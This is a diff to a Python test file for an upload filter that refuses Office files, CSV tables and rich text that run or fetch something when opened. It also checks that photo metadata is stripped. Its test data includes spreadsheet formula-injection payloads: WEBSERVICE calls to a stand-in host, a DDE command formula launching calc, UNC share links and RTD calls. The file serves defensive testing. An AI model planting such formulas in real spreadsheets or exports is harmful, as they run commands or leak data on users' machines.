@@ -1,9 +1,12 @@
 """Office files and rich text that run or fetch something when they are opened are refused."""
 
+import io
 import time
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
+from PIL import Image
 
 from complaints.operations import uploads
 from councils.domain.errors import RuleBroken
@@ -18,6 +21,7 @@ from tests.integration.complaints.uploading import (
     field,
     kept,
     office,
+    photograph,
     picture,
     refused,
     relation,
@@ -30,6 +34,11 @@ def without_declaration(part: bytes, encoding: str) -> bytes:
     return f'<?xml version="1.0" encoding="{encoding}"?>{part.decode()}'.encode(encoding)
 
 
+SIGNED = types(("word/document.xml", MAIN)).replace(
+    b"</Types>",
+    b'<Default Extension="sigs" '
+    b'ContentType="application/vnd.openxmlformats-package.digital-signature-origin"/></Types>',
+)
 MACRO = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
 
 
@@ -97,6 +106,11 @@ def test_a_word_file_that_runs_or_fetches_something_is_refused(part):
     assert refused("letter.docx", office({**WORD, **part})) == "file.active"
 
 
+def sheet(formula: str) -> bytes:
+    """A worksheet with a formula, and a text that looks like one."""
+    return f'<x:worksheet><x:c><x:f t="x">{formula}</x:f></x:c><x:is><x:t>IMAGE (1)</x:t></x:is></x:worksheet>'.encode()
+
+
 @pytest.mark.parametrize(
     "part",
     [
@@ -110,6 +124,15 @@ def test_a_word_file_that_runs_or_fetches_something_is_refused(part):
         {"[Content_Types].xml": types(("xl/connections.xml", f"{OOXML}.spreadsheetml.connections+xml"))},
         {"[Content_Types].xml": types(("xl/externalLink1.xml", f"{OOXML}.spreadsheetml.externalLink+xml"))},
         {"xl/unnamed.vml": b"<x/>"},
+        {"xl/worksheets/sheet1.xml": sheet('_xlfn.WEBSERVICE("https://elsewhere.example/" &amp; A1)')},
+        {"xl/worksheets/sheet1.xml": sheet("1+&#87;EBSERVICE(A1)")},
+        {"xl/worksheets/sheet1.xml": sheet("_xlfn.IMAGE(A1)")},
+        {"xl/worksheets/sheet1.xml": sheet("cmd|'/c calc'!A0")},
+        {"xl/worksheets/sheet1.xml": sheet("'\\\\host\\share\\[x.xlsx]a'!A1")},
+        {"xl/worksheets/sheet1.xml": sheet('HYPERLINK("file://host/share","Read")')},
+        {"xl/worksheets/sheet1.xml": sheet("<!-- -->SUM(1)")},
+        {"xl/worksheets/sheet1.xml": sheet("SUM(1)").decode().encode("utf-16")},
+        {"xl/workbook.xml": b"<workbook><definedName name='a'>RTD(&quot;x&quot;)</definedName></workbook>"},
     ],
     ids=lambda part: next(iter(part)),
 )
@@ -262,3 +285,64 @@ def test_rich_text_with_a_link_and_a_picture_is_taken():
     link = rb'{\field{\*\fldinst {\b HYPERLINK "https://example.org/link/"}{\*\datafield 00d0}}{\fldrslt site}}'
     content = rb"{\rtf1\ansi The object of my link " + link + rb"{\pict\pngblip 89504e47}{\*\objectproperties}}"
     assert kept("letter.rtf", content) == content
+
+
+@pytest.mark.parametrize(
+    "formula", ["SUM(A1:B2)/2", 'TEXTJOIN("|",TRUE,A1:A3)', '"RTD("&amp;A1', 'HYPERLINK("https://example.org/","Read")']
+)
+def test_a_workbook_that_calculates_is_taken(formula: str):
+    content = office({**EXCEL, "xl/worksheets/sheet1.xml": sheet(formula)})
+    assert kept("table.xlsx", content) == content
+
+
+@pytest.mark.parametrize(
+    ("line", "taken"),
+    [
+        ("1 June,-12.50,+44 1223 457000,- see image (1)", True),
+        ("=SUM(A1:A3),https://example.org/", True),
+        ('=WEBSERVICE("https://elsewhere.example/")', False),
+        ('a,"=1+WEBSERVICE(""https://elsewhere.example/"")"', False),
+        ("a;+cmd|'/c calc'!A0", False),
+        ("a\t@RTD(1)", False),
+    ],
+)
+def test_a_table_in_plain_text_fetches_nothing(line: str, taken: bool):
+    content = f"Day,Amount\r\n{line}\r\n".encode()
+    assert kept("table.csv", content) == content if taken else refused("table.csv", content) == "file.active"
+
+
+def test_a_large_workbook_takes_no_time():
+    rows = b'<c r="A1" t="n"><f>SUM(B1:B2)</f><v>1</v></c>' * 1_500_000
+    content = office({**EXCEL, "xl/worksheets/sheet1.xml": b"<worksheet>" + rows + b"</worksheet>"})
+    began = time.process_time()
+    assert kept("table.xlsx", content) == content
+    assert time.process_time() - began < 10
+
+
+@pytest.mark.parametrize(
+    ("name", "parts", "place"),
+    [
+        ("letter.docx", WORD, "word/media/image1.jpeg"),
+        ("table.xlsx", EXCEL, "xl/media/image1.JPG"),
+        ("letter.odt", None, "Pictures/1.jpg"),
+    ],
+)
+def test_photographs_inside_lose_what_the_camera_wrote(name: str, parts: dict[str, bytes] | None, place: str):
+    known = {"[Content_Types].xml": (parts or {}).get("[Content_Types].xml", b"").replace(b"image/png", b"image/jpeg")}
+    known["[Content_Types].xml"] = known["[Content_Types].xml"].replace(
+        b'Extension="png"', f'Extension="{place.rpartition(".")[2]}"'.encode()
+    )
+    picture = photograph("JPEG", 6)
+    given = text_document("", **{place: picture}) if parts is None else office({**parts, **known, place: picture})
+    with zipfile.ZipFile(io.BytesIO(kept(name, given))) as held, zipfile.ZipFile(io.BytesIO(given)) as before:
+        assert held.namelist() == before.namelist()
+        assert b"CANARY" in before.read(place)
+        assert b"CANARY" not in held.read(place)
+        assert dict(Image.open(io.BytesIO(held.read(place))).getexif()) == {0x0112: 6}
+        assert all(held.read(part) == before.read(part) for part in before.namelist() if part != place)
+
+
+def test_a_signed_file_stays_as_it_is():
+    picture = {"word/media/image1.png": photograph("PNG"), "_xmlsignatures/origin.sigs": b""}
+    signed = office({**WORD, **picture, "[Content_Types].xml": SIGNED})
+    assert kept("letter.docx", signed) == signed
